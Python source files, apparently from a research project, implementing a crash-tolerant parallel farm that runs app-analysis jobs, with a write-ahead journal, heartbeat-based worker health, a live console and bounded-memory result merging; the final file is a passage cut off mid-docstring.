class JournalState:
    """Replay of a journal file: per-digest ledgers plus run accounting."""

    jobs: Dict[str, JobLedger] = field(default_factory=dict)
    run_starts: int = 0
    clean_run_ends: int = 0

    def ledger(self, digest: str) -> JobLedger:
        return self.jobs.setdefault(digest, JobLedger())

    def strikes(self, digest: str) -> int:
        ledger = self.jobs.get(digest)
        return ledger.strikes if ledger else 0

    def in_flight_digests(self) -> List[str]:
        return sorted(d for d, ledger in self.jobs.items()
                      if ledger.in_flight)


def replay(path: str) -> JournalState:
    """Rebuild job state from a journal, tolerating a torn tail.

    A new ``run_start`` marks every still-in-flight job as abandoned
    (its worker died with the previous scheduler); strike counts and
    terminal states persist across segments — that persistence is the
    poison-quarantine guarantee.
    """
    state = JournalState()
    for event in iter_events(path):
        kind = event["event"]
        if kind == "run_start":
            state.run_starts += 1
            for ledger in state.jobs.values():
                ledger.in_flight = False
            continue
        if kind == "run_end":
            state.clean_run_ends += 1
            continue
        digest = event.get("digest")
        if digest is None:
            continue
        ledger = state.ledger(digest)
        if kind == "dispatched":
            ledger.attempts += 1
            ledger.in_flight = True
        elif kind == "strike":
            ledger.strikes += 1
            ledger.in_flight = False
        elif kind == "interrupted":
            ledger.in_flight = False
        elif kind in TERMINAL_EVENTS:
            ledger.terminal = kind
            ledger.in_flight = False
    return state


def verify_journal(path: str) -> List[str]:
    """Check the recovery invariants over a (possibly multi-run) journal.

    Returns human-readable violations; empty means the journal describes
    a legal history:

    * within one run segment, a digest resolves at most once
      (``done``/``cached``/``poison``/``lost`` are mutually terminal);
    * ``done``/``strike``/``interrupted`` only ever follow a
      ``dispatched`` for that digest in the same segment;
    * ``poison`` is recorded at most once per digest across the whole
      file — quarantine is a fleet-wide one-time classification.
    """
    violations: List[str] = []
    terminal_this_run: Dict[str, str] = {}
    dispatched_this_run: Dict[str, bool] = {}
    poison_counts: Dict[str, int] = {}
    for event in iter_events(path):
        kind = event["event"]
        if kind == "run_start":
            terminal_this_run = {}
            dispatched_this_run = {}
            continue
        digest = event.get("digest")
        if digest is None:
            continue
        if digest in terminal_this_run and kind in TERMINAL_EVENTS:
            violations.append(
                f"{digest[:12]}: double terminal "
                f"({terminal_this_run[digest]} then {kind})")
        if kind == "dispatched":
            dispatched_this_run[digest] = True
        elif kind in ("done", "strike", "interrupted") and \
                not dispatched_this_run.get(digest):
            violations.append(
                f"{digest[:12]}: {kind} without a dispatch this run")
        if kind in TERMINAL_EVENTS:
            terminal_this_run[digest] = kind
        if kind == "poison":
            poison_counts[digest] = poison_counts.get(digest, 0) + 1
    for digest, count in sorted(poison_counts.items()):
        if count > 1:
            violations.append(
                f"{digest[:12]}: poisoned {count} times (must be once)")
    return violations
