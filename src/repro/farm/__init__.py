"""Sharded parallel analysis farm (corpus-scale runs).

The paper's Section III study covers hundreds of thousands of apps; one
in-process loop does not scale past a demo.  The farm splits a corpus
manifest into content-digest-keyed jobs, dispatches them to a pool of
directly-forked workers (each job supervised, so a hostile app is a
recorded outcome, not a dead farm), caches results by digest so an
unchanged corpus re-runs near-free, and merges the per-worker artifacts
— metrics snapshots, provenance traces, crash tombstones — into one
farm-level report.

At fleet scale the failures are the workload, so the farm is built to be
killed: workers heartbeat (hung != dead != busy), struck jobs retry with
jittered backoff, a job that keeps killing workers is quarantined as
``poison`` exactly once, every state transition is fsync'd to a
write-ahead journal before it takes effect, and results commit with
power-loss-safe writes — SIGKILL the scheduler itself and ``--resume``
completes the run with no lost jobs, no duplicates, no corrupt store.
``repro farm --chaos SEED`` proves all of that on demand.

Paper-scale corpus runs stream instead of materializing: a
:class:`ShardedManifest` spools chunk-classification jobs into
digest-stable JSONL shards, :class:`StreamFarm` serves whole shards
from long-lived forked workers with atomic shard commits and
shard-level resume, and :class:`~repro.farm.merge.MergeFold` folds the
results in bounded memory (see DESIGN.md "Paper-scale pipeline").

Layers::

    Manifest (manifest.py)   what to run, digest-keyed JobSpecs
    ShardedManifest (manifest.py) streamed JSONL shards + index
    FarmScheduler (scheduler.py)  dispatch -> retry/quarantine -> collect
    StreamFarm (scheduler.py)  shard workers, bounded-memory corpus runs
    execute_job (worker.py)  one supervised job, JSON-able result
    WorkerPool (health.py)   fork, heartbeat, hung-vs-dead, reclaim
    RunJournal (journal.py)  crash-consistent WAL of job transitions
    ResultStore (store.py)   digest-addressed fsync'd result cache
    ChaosMonkey (chaos.py)   deterministic fault injection + harness
    merge_results (merge.py) type-aware metric merge, tombstones, report
    FarmConsole (console.py) live TTY view over heartbeats + span spools
"""

from repro.farm.chaos import ChaosMonkey, ChaosReport, run_chaos_harness
from repro.farm.console import FarmConsole
from repro.farm.health import HealthStats, WorkerPool, parse_heartbeat
from repro.farm.journal import RunJournal, replay, verify_journal
from repro.farm.manifest import (
    FARM_SCHEMA_VERSION,
    JobSpec,
    Manifest,
    ShardedManifest,
    iter_corpus_jobs,
)
from repro.farm.merge import (
    FarmReport,
    MergeFold,
    merge_results,
    merge_spans,
    render_farm_report,
    sink_counts,
    write_farm_artifacts,
    write_trace_artifacts,
)
from repro.farm.scheduler import (
    FarmInterrupted,
    FarmScheduler,
    StreamFarm,
    run_farm,
)
from repro.farm.store import ResultStore
from repro.farm.worker import execute_job

__all__ = [
    "FARM_SCHEMA_VERSION",
    "ChaosMonkey",
    "ChaosReport",
    "FarmConsole",
    "FarmInterrupted",
    "FarmReport",
    "FarmScheduler",
    "HealthStats",
    "JobSpec",
    "Manifest",
    "MergeFold",
    "ResultStore",
    "RunJournal",
    "ShardedManifest",
    "StreamFarm",
    "WorkerPool",
    "execute_job",
    "iter_corpus_jobs",
    "merge_results",
    "merge_spans",
    "parse_heartbeat",
    "render_farm_report",
    "replay",
    "run_chaos_harness",
    "run_farm",
    "sink_counts",
    "verify_journal",
    "write_farm_artifacts",
    "write_trace_artifacts",
]
