"""Sharded parallel analysis farm (corpus-scale runs).

The paper's Section III study covers hundreds of thousands of apps; one
in-process loop does not scale past a demo.  The farm splits a corpus
manifest into content-digest-keyed jobs, dispatches them to a
``multiprocessing`` worker pool (each job supervised, so a hostile app
is a recorded outcome, not a dead farm), caches results by digest so an
unchanged corpus re-runs near-free, and merges the per-worker artifacts
— metrics snapshots, provenance traces, crash tombstones — into one
farm-level report.

Layers::

    Manifest (manifest.py)   what to run, digest-keyed JobSpecs
    FarmScheduler (scheduler.py)  shard -> dispatch -> cache -> collect
    execute_job (worker.py)  one supervised job, JSON-able result
    ResultStore (store.py)   digest-addressed result cache
    merge_results (merge.py) summed metrics, tombstones, report text
"""

from repro.farm.manifest import FARM_SCHEMA_VERSION, JobSpec, Manifest
from repro.farm.merge import (
    FarmReport,
    merge_results,
    render_farm_report,
    sink_counts,
    write_farm_artifacts,
)
from repro.farm.scheduler import FarmScheduler, run_farm
from repro.farm.store import ResultStore
from repro.farm.worker import execute_job

__all__ = [
    "FARM_SCHEMA_VERSION",
    "FarmReport",
    "FarmScheduler",
    "JobSpec",
    "Manifest",
    "ResultStore",
    "execute_job",
    "merge_results",
    "render_farm_report",
    "run_farm",
    "sink_counts",
    "write_farm_artifacts",
]
