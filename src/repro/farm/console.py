"""`repro farm --watch`: a live TTY console over a running farm.

The console is a *read-only observer*: it tails the artifacts the farm
already writes — per-job heartbeat files (``run_dir/hb/``), per-process
span spools (``trace_dir/*.jsonl``), and the run journal — and renders
one frame per refresh.  It never talks to the scheduler, so attaching or
killing it cannot perturb a run, and it works equally against a live
farm or a post-mortem run directory.

Per worker it shows what the heartbeat body self-reports (current job
digest, instruction count, beat age) plus the liveness verdict the
scheduler itself would reach — ``busy`` (stamping), ``hung`` (alive but
silent past the miss threshold), ``dead`` (pid gone) — and, when spools
are available, the spans currently in flight and the cache hit rates
from the worker's latest counter samples.

:meth:`FarmConsole.render_frame` is pure (state in, string out) so tests
drive it without a TTY; :meth:`start`/:meth:`stop` wrap it in a daemon
thread doing ANSI home-and-redraw for the CLI.
"""

from __future__ import annotations

import json
import os
import threading
import time
from typing import Dict, List, Optional, TextIO

from repro.farm.health import (
    HEARTBEAT_INTERVAL,
    MISS_THRESHOLD,
    parse_heartbeat,
)

# How much of each spool tail to parse per frame; spans/counters older
# than this window have scrolled off the live view (the full file is
# still merged post-run).
TAIL_BYTES = 65536

_CACHE_RATE_PAIRS = (
    ("tb", "tb.hits", "tb.misses"),
    ("tbc", "tbc.hits", "tbc.misses"),
    ("jni", "jni.trampoline.hits", "jni.trampoline.misses"),
    # Persistent-cache rehydration rates (only emitted when the run
    # carries --tb-cache; absent counters render as no column).
    ("tb+", "tb.persist.hits", "tb.persist.misses"),
    ("tbc+", "tbc.persist.hits", "tbc.persist.misses"),
    ("jni+", "jni.persist.hits", "jni.persist.misses"),
)


def _pid_alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    except PermissionError:  # pragma: no cover - pid reused by other user
        return True
    return True


def tail_spool(path: str, tail_bytes: int = TAIL_BYTES) -> List[Dict]:
    """Parse the last ``tail_bytes`` of a spool; torn lines skipped."""
    try:
        with open(path, "rb") as handle:
            handle.seek(0, os.SEEK_END)
            size = handle.tell()
            handle.seek(max(0, size - tail_bytes))
            blob = handle.read()
    except OSError:
        return []
    records: List[Dict] = []
    for line in blob.splitlines():
        if not line.strip():
            continue
        try:
            record = json.loads(line)
        except ValueError:
            continue  # torn tail, or the partial first line of the window
        if isinstance(record, dict) and "ph" in record:
            records.append(record)
    return records


def spool_live_state(records: List[Dict]) -> Dict:
    """Open spans + latest counter values from one spool tail."""
    open_spans: Dict[int, Dict] = {}
    counters: Dict[str, float] = {}
    for record in records:
        ph = record.get("ph")
        if ph == "B":
            open_spans[record.get("span", 0)] = record
        elif ph == "E":
            open_spans.pop(record.get("span", 0), None)
        elif ph == "C":
            counters[record.get("name", "?")] = record.get("value", 0)
    return {"open_spans": list(open_spans.values()), "counters": counters}


def cache_hit_rates(counters: Dict[str, float]) -> Dict[str, float]:
    rates: Dict[str, float] = {}
    for label, hit_key, miss_key in _CACHE_RATE_PAIRS:
        hits, misses = counters.get(hit_key), counters.get(miss_key)
        if hits is None and misses is None:
            continue
        total = (hits or 0) + (misses or 0)
        if total:
            rates[label] = (hits or 0) / total
    return rates


class FarmConsole:
    """Tail heartbeats + spools + journal into a per-worker status frame."""

    def __init__(self, run_dir: str, trace_dir: Optional[str] = None,
                 interval: float = 0.5,
                 heartbeat_interval: float = HEARTBEAT_INTERVAL,
                 miss_threshold: int = MISS_THRESHOLD,
                 out: Optional[TextIO] = None) -> None:
        self.run_dir = run_dir
        self.trace_dir = trace_dir
        self.interval = interval
        self.hung_after = heartbeat_interval * miss_threshold
        self.out = out
        self._thread: Optional[threading.Thread] = None
        self._stop = threading.Event()
        self.frames_rendered = 0

    # -- data gathering ---------------------------------------------------

    def worker_rows(self, now: Optional[float] = None) -> List[Dict]:
        """One row per heartbeat file: liveness verdict + vitals."""
        now = time.time() if now is None else now
        hb_dir = os.path.join(self.run_dir, "hb")
        rows: List[Dict] = []
        try:
            names = sorted(os.listdir(hb_dir))
        except OSError:
            return rows
        for name in names:
            path = os.path.join(hb_dir, name)
            beat = parse_heartbeat(path)
            if beat is None:
                continue
            try:
                age = max(0.0, now - os.stat(path).st_mtime)
            except OSError:
                continue
            if not _pid_alive(beat["pid"]):
                state = "dead"
            elif age > self.hung_after:
                state = "hung"
            else:
                state = "busy"
            rows.append({
                "pid": beat["pid"],
                "state": state,
                "digest": beat["digest"] or name[:12],
                "instructions": beat["instructions"],
                "age": age,
            })
        return rows

    def spool_states(self) -> Dict[int, Dict]:
        """Live span/counter state per process, keyed by pid."""
        states: Dict[int, Dict] = {}
        if self.trace_dir is None:
            return states
        try:
            names = sorted(os.listdir(self.trace_dir))
        except OSError:
            return states
        for name in names:
            if not name.endswith(".jsonl"):
                continue
            records = tail_spool(os.path.join(self.trace_dir, name))
            if not records:
                continue
            pid = records[-1].get("pid", 0)
            state = spool_live_state(records)
            previous = states.get(pid)
            if previous is not None:
                # Later attempts' spools supersede, but open spans from
                # any spool of this pid stay visible.
                previous["open_spans"].extend(state["open_spans"])
                previous["counters"].update(state["counters"])
            else:
                states[pid] = state
        return states

    def journal_counts(self) -> Dict[str, int]:
        from repro.farm.journal import iter_events
        counts: Dict[str, int] = {}
        path = os.path.join(self.run_dir, "journal.jsonl")
        for event in iter_events(path):
            kind = event.get("event", "?")
            counts[kind] = counts.get(kind, 0) + 1
        return counts

    # -- rendering --------------------------------------------------------

    def render_frame(self, now: Optional[float] = None) -> str:
        now = time.time() if now is None else now
        workers = self.worker_rows(now)
        spools = self.spool_states()
        counts = self.journal_counts()
        lines = ["== farm watch =="]
        progress = " ".join(f"{name}={counts[name]}"
                            for name in ("dispatched", "done", "cached",
                                         "retry", "poison", "lost")
                            if counts.get(name))
        lines.append(f"  journal: {progress or '(no events yet)'}")
        if not workers:
            lines.append("  (no worker heartbeats)")
        for row in workers:
            spool = spools.get(row["pid"], {})
            open_names = ",".join(
                record.get("name", "?")
                for record in spool.get("open_spans", ())) or "-"
            rates = cache_hit_rates(spool.get("counters", {}))
            rate_text = " ".join(f"{label}={rate:.0%}"
                                 for label, rate in sorted(rates.items()))
            lines.append(
                f"  [{row['pid']:>7}] {row['state']:<4} "
                f"job={row['digest'][:12]:<12} "
                f"insns={row['instructions']:<10} "
                f"beat={row['age']*1000:4.0f}ms "
                f"spans={open_names}"
                + (f" cache[{rate_text}]" if rate_text else ""))
        self.frames_rendered += 1
        return "\n".join(lines)

    # -- live loop --------------------------------------------------------

    def start(self) -> None:
        if self._thread is not None:
            return
        self._stop.clear()
        self._thread = threading.Thread(target=self._loop,
                                        name="farm-watch", daemon=True)
        self._thread.start()

    def stop(self) -> None:
        thread = self._thread
        if thread is None:
            return
        self._stop.set()
        thread.join(timeout=2.0)
        self._thread = None

    def _loop(self) -> None:
        import sys
        out = self.out if self.out is not None else sys.stderr
        while not self._stop.wait(self.interval):
            try:
                frame = self.render_frame()
            except Exception:  # pragma: no cover - observer must not crash
                continue
            # Home + clear-to-end redraw; plain appends on non-TTYs.
            if getattr(out, "isatty", lambda: False)():
                out.write("\x1b[H\x1b[2J" + frame + "\n")
            else:
                out.write(frame + "\n")
            out.flush()
