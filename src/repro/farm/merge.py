"""Merge per-worker artifacts into one farm-level report.

Workers return self-contained result rows (metrics snapshot, leak
records, provenance-trace lines, tombstones).  The merge is pure
aggregation — summed metrics, concatenated job-tagged trace lines,
collected tombstones — so a 4-worker run and a serial run of the same
manifest merge to identical per-app counts (the parity property the
scheduler tests pin).  Rendering reuses the PR 3 report machinery
(:func:`render_analysis_table`) for the merged analysis-work section.
"""

from __future__ import annotations

import json
import os
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.observability.report import render_analysis_table

# Per-app sink activity surfaced in the farm table, pulled from the
# kernel's syscall tally in each job's metrics snapshot.
SINK_SYSCALLS = ("write", "send", "sendto")


def sink_counts(metrics: Dict) -> Dict[str, int]:
    return {name: int(metrics.get(f"kernel.syscall.{name}", 0))
            for name in SINK_SYSCALLS}


@dataclass
class FarmReport:
    """Everything a farm run produced, merged."""

    results: List[Dict]
    workers: int = 1
    wall_seconds: float = 0.0
    cached_jobs: int = 0
    merged_metrics: Dict = field(default_factory=dict)
    outcomes: Dict[str, int] = field(default_factory=dict)
    tombstones: List[Tuple[str, Dict]] = field(default_factory=list)
    # Scheduler fault-tolerance summary (HealthStats.summary()):
    # reclaims, retries, quarantines, mean time to reclaim.
    health: Dict = field(default_factory=dict)

    @property
    def completed(self) -> int:
        return sum(1 for row in self.results
                   if row["status"] in ("ok", "degraded"))

    def rows(self) -> List[Dict]:
        """The per-job display/parity rows."""
        rows = []
        for result in self.results:
            job = result["job"]
            rows.append({
                "id": job["id"],
                "kind": job["kind"],
                "status": result["status"],
                "cached": bool(result.get("cached")),
                "leaks": len(result.get("leaks", [])),
                "destinations": sorted({leak["destination"]
                                        for leak in result.get("leaks", [])
                                        if leak.get("destination")}),
                "sinks": sink_counts(result.get("metrics", {})),
                "degraded_events": result.get("degraded_events", 0),
                "elapsed_seconds": result.get("elapsed_seconds", 0.0),
            })
        return rows

    def to_dict(self) -> Dict:
        return {
            "workers": self.workers,
            "wall_seconds": self.wall_seconds,
            "jobs": len(self.results),
            "cached_jobs": self.cached_jobs,
            "outcomes": dict(self.outcomes),
            "rows": self.rows(),
            "merged_metrics": dict(self.merged_metrics),
            "tombstones": [{"job": job_id, **tombstone}
                           for job_id, tombstone in self.tombstones],
            "health": dict(self.health),
        }


# Histogram-summary suffixes and how each merges across workers.
_HIST_MIN = ".min"
_HIST_MAX = ".max"
_MEAN_SUFFIXES = (".mean", ".p50", ".p95", ".p99")


def merge_metrics(results: List[Dict]) -> Dict:
    """Type-aware merge of the per-job metric snapshots.

    Metric semantics differ, so one rule per type:

    * **counters** (the default) sum — per-app event tallies add up
      fleet-wide;
    * **gauges** take the max — summing "cached blocks right now"
      across eight workers invents a cache none of them has.  Each
      worker ships its registry's ``gauge_keys()`` in
      ``metrics_gauges``, so the merge needs no name heuristics;
    * **histogram summaries** merge component-wise: ``.count``/``.sum``
      add, ``.min``/``.max`` take min/max, and ``.mean``/percentiles
      are count-weighted averages (exact for the mean, the standard
      mergeable approximation for percentiles).
    """
    gauge_names: set = set()
    for result in results:
        gauge_names.update(result.get("metrics_gauges", ()))

    merged: Dict = {}
    weighted: Dict[str, float] = {}   # sum(value * count) for mean-like keys
    weights: Dict[str, float] = {}
    for result in results:
        metrics = result.get("metrics", {})
        for name, value in metrics.items():
            if not isinstance(value, (int, float)):
                continue
            if name in gauge_names:
                merged[name] = max(merged.get(name, value), value)
            elif name.endswith(_HIST_MIN):
                merged[name] = min(merged.get(name, value), value)
            elif name.endswith(_HIST_MAX):
                merged[name] = max(merged.get(name, value), value)
            elif name.endswith(_MEAN_SUFFIXES):
                stem = name.rsplit(".", 1)[0]
                count = metrics.get(f"{stem}.count", 1) or 1
                weighted[name] = weighted.get(name, 0.0) + value * count
                weights[name] = weights.get(name, 0.0) + count
            else:
                merged[name] = merged.get(name, 0) + value
    for name, total in weighted.items():
        merged[name] = round(total / weights[name], 6)
    return merged


def merge_spans(trace_dir: str) -> Dict:
    """Aggregate every per-process span spool under ``trace_dir``.

    Returns the fleet timeline (``flight.build_timeline`` shape):
    scheduler + worker + engine spans from every process, time-sorted
    and correlated by trace id, with SIGKILL-torn spools replayed to
    explicit open spans.
    """
    from repro.observability.flight import aggregate_trace_dir
    return aggregate_trace_dir(trace_dir)


def write_trace_artifacts(trace_dir: str,
                          out_dir: Optional[str] = None) -> Dict[str, str]:
    """Merge spools and write ``trace.json`` (Chrome trace-event JSON,
    Perfetto-loadable) + ``timeline.txt`` (rendered text timeline)."""
    from repro.observability import flight
    return flight.write_trace_artifacts(trace_dir, out_dir)


def merge_results(results: List[Dict], workers: int = 1,
                  wall_seconds: float = 0.0,
                  cached_jobs: int = 0,
                  health: Optional[Dict] = None) -> FarmReport:
    outcomes: Dict[str, int] = {}
    tombstones: List[Tuple[str, Dict]] = []
    for result in results:
        outcomes[result["status"]] = outcomes.get(result["status"], 0) + 1
        if result.get("tombstone"):
            tombstones.append((result["job"]["id"], result["tombstone"]))
    return FarmReport(results=results, workers=workers,
                      wall_seconds=wall_seconds, cached_jobs=cached_jobs,
                      merged_metrics=merge_metrics(results),
                      outcomes=outcomes, tombstones=tombstones,
                      health=dict(health or {}))


def render_farm_report(report: FarmReport) -> str:
    lines = ["== farm ==",
             f"  jobs:    {len(report.results)} "
             f"({report.cached_jobs} from cache)",
             f"  workers: {report.workers}",
             f"  wall:    {report.wall_seconds:.2f}s",
             f"  outcomes: " + ", ".join(
                 f"{name}={count}"
                 for name, count in sorted(report.outcomes.items()))]
    if report.health and report.health.get("workers_reclaimed"):
        lines.append(
            f"  health:  reclaimed={report.health['workers_reclaimed']} "
            f"(died={report.health.get('worker_deaths', 0)} "
            f"hung={report.health.get('hung_workers', 0)} "
            f"deadline={report.health.get('deadline_kills', 0)}) "
            f"retries={report.health.get('retries', 0)} "
            f"poison={report.health.get('poison_quarantined', 0)} "
            f"mttr={report.health.get('mean_time_to_reclaim_seconds', 0):.3f}s")
    lines += ["",
             f"  {'job':<30} {'status':<9} {'leaks':>5} "
             f"{'write':>6} {'send':>5} {'sendto':>7} "
             f"{'degraded':>9}  destinations"]
    for row in report.rows():
        sinks = row["sinks"]
        cached = "*" if row["cached"] else ""
        destinations = ", ".join(row["destinations"]) or "-"
        lines.append(
            f"  {row['id']:<30} {row['status'] + cached:<9} "
            f"{row['leaks']:>5} {sinks['write']:>6} {sinks['send']:>5} "
            f"{sinks['sendto']:>7} {row['degraded_events']:>9}  "
            f"{destinations}")
    lines.append("")
    if report.tombstones:
        lines.append("== tombstones ==")
        for job_id, tombstone in report.tombstones:
            lines.append(f"  {job_id}: {tombstone.get('error_type')}: "
                         f"{tombstone.get('error_message')}")
        lines.append("")
    lines.append(render_analysis_table(report.merged_metrics))
    return "\n".join(lines) + "\n"


def write_farm_artifacts(report: FarmReport, directory: str) -> List[str]:
    """Persist the merged farm artifacts; returns the paths written."""
    os.makedirs(directory, exist_ok=True)
    jobs_dir = os.path.join(directory, "jobs")
    merged_dir = os.path.join(directory, "merged")
    os.makedirs(jobs_dir, exist_ok=True)
    os.makedirs(merged_dir, exist_ok=True)
    written: List[str] = []

    def emit(path: str, payload, jsonl: Optional[List[str]] = None) -> None:
        with open(path, "w") as handle:
            if jsonl is not None:
                handle.write("\n".join(jsonl) + ("\n" if jsonl else ""))
            else:
                json.dump(payload, handle, indent=2)
                handle.write("\n")
        written.append(path)

    for result in report.results:
        job_id = result["job"]["id"].replace(":", "_").replace("/", "_")
        emit(os.path.join(jobs_dir, f"{job_id}.json"), result)

    emit(os.path.join(merged_dir, "metrics.json"), report.merged_metrics)
    trace_lines: List[str] = []
    for result in report.results:
        job_id = result["job"]["id"]
        for line in result.get("trace", []) or []:
            edge = json.loads(line)
            edge["job"] = job_id
            trace_lines.append(json.dumps(edge))
    if trace_lines:
        emit(os.path.join(merged_dir, "trace.jsonl"), None,
             jsonl=trace_lines)
    emit(os.path.join(merged_dir, "tombstones.json"),
         [{"job": job_id, **tombstone}
          for job_id, tombstone in report.tombstones])
    emit(os.path.join(directory, "farm.json"), report.to_dict())
    with open(os.path.join(directory, "report.txt"), "w") as handle:
        handle.write(render_farm_report(report))
    written.append(os.path.join(directory, "report.txt"))
    return written
