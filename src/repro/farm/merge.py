"""Merge per-worker artifacts into one farm-level report.

Workers return self-contained result rows (metrics snapshot, leak
records, provenance-trace lines, tombstones).  The merge is pure
aggregation — summed metrics, concatenated job-tagged trace lines,
collected tombstones — so a 4-worker run and a serial run of the same
manifest merge to identical per-app counts (the parity property the
scheduler tests pin).  Rendering reuses the PR 3 report machinery
(:func:`render_analysis_table`) for the merged analysis-work section.

The merge is a **bounded-memory streaming fold**: :class:`MergeFold`
accepts one result row at a time, accumulates the type-aware metric
merge and the outcome/tombstone bookkeeping incrementally, and spools
compact display rows to disk instead of retaining result dicts.  A
100k-job corpus run therefore merges in O(metric names) memory; the
list-based :func:`merge_results`/:func:`merge_metrics` API survives as
a thin wrapper over the same fold.
"""

from __future__ import annotations

import json
import os
from dataclasses import dataclass, field
from typing import Dict, Iterable, Iterator, List, Optional, Tuple, Union

from repro.observability.report import render_analysis_table

# Per-app sink activity surfaced in the farm table, pulled from the
# kernel's syscall tally in each job's metrics snapshot.
SINK_SYSCALLS = ("write", "send", "sendto")

# render_farm_report prints at most this many per-job rows; a
# paper-scale corpus summarises the remainder in one line.
MAX_RENDERED_ROWS = 48


def sink_counts(metrics: Dict) -> Dict[str, int]:
    return {name: int(metrics.get(f"kernel.syscall.{name}", 0))
            for name in SINK_SYSCALLS}


def compact_row(result: Dict) -> Dict:
    """The per-job display/parity row for one result dict."""
    job = result["job"]
    return {
        "id": job["id"],
        "kind": job["kind"],
        "status": result["status"],
        "cached": bool(result.get("cached")),
        "leaks": len(result.get("leaks", [])),
        "destinations": sorted({leak["destination"]
                                for leak in result.get("leaks", [])
                                if leak.get("destination")}),
        "sinks": sink_counts(result.get("metrics", {})),
        "degraded_events": result.get("degraded_events", 0),
        "elapsed_seconds": result.get("elapsed_seconds", 0.0),
    }


@dataclass
class FarmReport:
    """Everything a farm run produced, merged.

    Two shapes share this type: small runs keep their ``results`` list
    (every caller can still index into full result dicts), streaming
    runs carry only the folded aggregates plus ``rows_path`` — a JSONL
    spool of compact display rows — and leave ``results`` empty.
    """

    results: List[Dict] = field(default_factory=list)
    workers: int = 1
    wall_seconds: float = 0.0
    cached_jobs: int = 0
    merged_metrics: Dict = field(default_factory=dict)
    outcomes: Dict[str, int] = field(default_factory=dict)
    tombstones: List[Tuple[str, Dict]] = field(default_factory=list)
    # Scheduler fault-tolerance summary (HealthStats.summary()):
    # reclaims, retries, quarantines, mean time to reclaim.
    health: Dict = field(default_factory=dict)
    # Streaming-mode fields (results stays empty).
    job_count: int = 0
    completed_count: int = 0
    rows_path: Optional[str] = None

    @property
    def streamed(self) -> bool:
        return not self.results and self.job_count > 0

    @property
    def jobs(self) -> int:
        return len(self.results) if self.results else self.job_count

    @property
    def completed(self) -> int:
        if self.results:
            return sum(1 for row in self.results
                       if row["status"] in ("ok", "degraded"))
        return self.completed_count

    def rows(self) -> Iterable[Dict]:
        """The per-job display/parity rows.

        Materialized reports return a list; streamed reports return a
        generator over the on-disk row spool — callers iterate either
        way without holding 100k dicts.
        """
        if self.results or not self.rows_path:
            return [compact_row(result) for result in self.results]
        return self._iter_spooled_rows()

    def _iter_spooled_rows(self) -> Iterator[Dict]:
        try:
            handle = open(self.rows_path)
        except OSError:
            return
        with handle:
            for line in handle:
                line = line.strip()
                if line:
                    yield json.loads(line)

    def to_dict(self) -> Dict:
        payload = {
            "workers": self.workers,
            "wall_seconds": self.wall_seconds,
            "jobs": self.jobs,
            "cached_jobs": self.cached_jobs,
            "outcomes": dict(self.outcomes),
            "merged_metrics": dict(self.merged_metrics),
            "tombstones": [{"job": job_id, **tombstone}
                           for job_id, tombstone in self.tombstones],
            "health": dict(self.health),
        }
        if self.streamed:
            # 100k rows do not belong inline in farm.json; point at
            # the spool instead.
            payload["rows"] = None
            payload["rows_path"] = self.rows_path
        else:
            payload["rows"] = list(self.rows())
        return payload


# Histogram-summary suffixes and how each merges across workers.
_HIST_MIN = ".min"
_HIST_MAX = ".max"
_MEAN_SUFFIXES = (".mean", ".p50", ".p95", ".p99")


class _MetricsFold:
    """Incremental type-aware metric merge (one result at a time)."""

    def __init__(self) -> None:
        self.gauge_names: set = set()
        self.merged: Dict = {}
        self._weighted: Dict[str, float] = {}   # sum(value * count)
        self._weights: Dict[str, float] = {}

    def declare_gauges(self, names: Iterable[str]) -> None:
        self.gauge_names.update(names)

    def add(self, result: Dict) -> None:
        # A result's own gauge declarations land before its metrics, so
        # within one result (and for the uniform declarations workers
        # actually ship) the gauge rule always wins over the counter
        # default.
        self.declare_gauges(result.get("metrics_gauges", ()))
        metrics = result.get("metrics", {})
        merged = self.merged
        for name, value in metrics.items():
            if not isinstance(value, (int, float)):
                continue
            if name in self.gauge_names:
                merged[name] = max(merged.get(name, value), value)
            elif name.endswith(_HIST_MIN):
                merged[name] = min(merged.get(name, value), value)
            elif name.endswith(_HIST_MAX):
                merged[name] = max(merged.get(name, value), value)
            elif name.endswith(_MEAN_SUFFIXES):
                stem = name.rsplit(".", 1)[0]
                count = metrics.get(f"{stem}.count", 1) or 1
                self._weighted[name] = \
                    self._weighted.get(name, 0.0) + value * count
                self._weights[name] = self._weights.get(name, 0.0) + count
            else:
                merged[name] = merged.get(name, 0) + value

    def finish(self) -> Dict:
        for name, total in self._weighted.items():
            self.merged[name] = round(total / self._weights[name], 6)
        return self.merged


class MergeFold:
    """Bounded-memory streaming merge: fold result rows one at a time.

    Holds only the aggregates — outcome counts, the metric fold, the
    (rare) tombstones — plus an open spool where each result's compact
    display row is appended, so memory stays O(metric names), not
    O(jobs).  ``finish()`` yields the same :class:`FarmReport` a
    materialized merge would, minus the retained result dicts.
    """

    def __init__(self, rows_path: Optional[str] = None) -> None:
        self.rows_path = rows_path
        self.jobs = 0
        self.cached_jobs_seen = 0
        self.completed = 0
        self.outcomes: Dict[str, int] = {}
        self.tombstones: List[Tuple[str, Dict]] = []
        self._metrics = _MetricsFold()
        self._rows_handle = None
        if rows_path is not None:
            parent = os.path.dirname(rows_path)
            if parent:
                os.makedirs(parent, exist_ok=True)
            self._rows_handle = open(rows_path, "w")

    def add(self, result: Dict) -> None:
        self.jobs += 1
        status = result.get("status", "lost")
        self.outcomes[status] = self.outcomes.get(status, 0) + 1
        if status in ("ok", "degraded"):
            self.completed += 1
        if result.get("cached"):
            self.cached_jobs_seen += 1
        if result.get("tombstone"):
            self.tombstones.append((result["job"]["id"],
                                    result["tombstone"]))
        self._metrics.add(result)
        if self._rows_handle is not None:
            self._rows_handle.write(json.dumps(compact_row(result)) + "\n")

    def finish(self, workers: int = 1, wall_seconds: float = 0.0,
               cached_jobs: Optional[int] = None,
               health: Optional[Dict] = None) -> FarmReport:
        if self._rows_handle is not None:
            self._rows_handle.close()
            self._rows_handle = None
        return FarmReport(
            results=[], workers=workers, wall_seconds=wall_seconds,
            cached_jobs=(self.cached_jobs_seen if cached_jobs is None
                         else cached_jobs),
            merged_metrics=self._metrics.finish(),
            outcomes=self.outcomes, tombstones=self.tombstones,
            health=dict(health or {}), job_count=self.jobs,
            completed_count=self.completed, rows_path=self.rows_path)


def merge_metrics(results: List[Dict]) -> Dict:
    """Type-aware merge of the per-job metric snapshots.

    Metric semantics differ, so one rule per type:

    * **counters** (the default) sum — per-app event tallies add up
      fleet-wide;
    * **gauges** take the max — summing "cached blocks right now"
